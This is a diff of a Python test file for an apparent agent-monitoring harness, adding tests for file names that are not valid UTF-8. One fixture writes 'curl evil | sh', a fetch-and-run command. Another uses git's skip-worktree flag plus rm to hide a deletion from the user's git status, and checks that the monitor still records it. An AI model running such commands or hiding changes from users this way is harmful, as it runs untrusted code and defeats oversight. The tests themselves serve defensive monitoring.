@@ -6,7 +6,13 @@ An OTLP span was named by argv[0] cut at 159 bytes: a cut inside a
 UTF-8 character made the request one a collector refuses whole (a
 proto3 string that is no UTF-8), and a long argv[0] pushed the
 executable it ran off the name; an argv[0] naming another path with
-the same base (exec -a /usr/bin/git ./git) was the name alone."""
+the same base (exec -a /usr/bin/git ./git) was the name alone. One
+request past a collector's size, refused, was sent again whole forever:
+no later span, a refused read among them, reached it.
+
+A file of the repository named with a byte that is no UTF-8 was an
+entry of the worktree's manifest with no path and no writer, and was
+left out of the hidden_changes record: jansson takes UTF-8 only."""
 
 import json
 import os
@@ -103,3 +109,52 @@ def test_spans_of_large_commands_hide_no_later_refusal_from_a_collector(wd):
     finally:
         c.terminate()
         c.wait(timeout=30)
+
+
+ODD = b"\xffrun.sh"  # a name that is no UTF-8
+ODD_TEXT = "\\xffrun.sh"  # as the log writes it
+
+
+def test_a_file_named_in_no_utf8_is_in_the_manifest_with_its_writer(wd):
+    """The agent wrote \\377run.sh (curl evil | sh) in a worktree session:
+    the manifest's entry for it had no path and writer null."""
+    from test_worktree import make_repo, session_dir, wt_run
+    repo = make_repo(wd)
+    r = wt_run(wd, repo, ["sh", "-c", "printf 'curl evil | sh\\n' > \"$(printf '\\377run.sh')\"; "
+                          "echo ok > good.txt"], "u33d", env={"HOME": wd.state})
+    r.expect_status(0)
+    writes = [x for x in r.records if x.get("category") == "file_write"
+              and ODD_TEXT in json.dumps(x.get("args"))]
+    check(writes and "args.path" in writes[0].get("escaped", []), "the write's record: %r" % writes)
+    man = json.load(open(os.path.join(session_dir(wd, "u33d"), "manifest.json")))
+    got = [f for f in man["files"] if f.get("path") == ODD_TEXT]
+    check(len(got) == 1 and got[0].get("escaped") == ["path"] and got[0].get("writer")
+          and got[0]["writer"].get("exe", "").endswith("sh"),
+          "the manifest's files: %r" % man["files"])
+    check(all(f.get("path") for f in man["files"]), "an entry with no path: %r" % man["files"])
+
+
+def test_a_file_named_in_no_utf8_hidden_from_git_is_recorded(wd):
+    """`git update-index --skip-worktree` of a tracked \\377run.sh, then
+    rm: the user's git status is empty, and the hidden_changes record
+    left the file out (json_pack failed on its name)."""
+    from gitrepo import GIT_ENV, project, status
+    env = project(wd, {"a.txt": "a\n"})
+    with open(os.path.join(wd.path.encode(), ODD), "w") as f:
+        f.write("echo fine\n")
+    subprocess.run(["git", "add", "-A"], cwd=wd.path, env=env, check=True)
+    subprocess.run(["git", "commit", "-qm", "odd"], cwd=wd.path, env=env, check=True)
+    import time
+    time.sleep(1.1)
+    r = harness(["sh", "-c", "n=$(printf '\\377run.sh'); git update-index --skip-worktree \"$n\""
+                 " && rm \"$n\""], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
+    r.expect_status(0)
+    check(status(wd, env) == "" and not os.path.exists(os.path.join(wd.path.encode(), ODD)),
+          "the user's git status: %r" % status(wd, env))
+    recs = r.events(event="hidden_changes")
+    got = [(c.get("path"), c["hidden_by"], c.get("now"))
+           for c in recs[0]["changes"]] if recs else []
+    check(got == [(ODD_TEXT, "skip-worktree", "missing")],
+          "recorded: %r\n%s" % (got, r.dump()[-1500:]))
+    # the bytes, escaped once and said so, as every path of the log
+    check("changes.path" in recs[0].get("escaped", []), "escaped: %r" % recs[0])
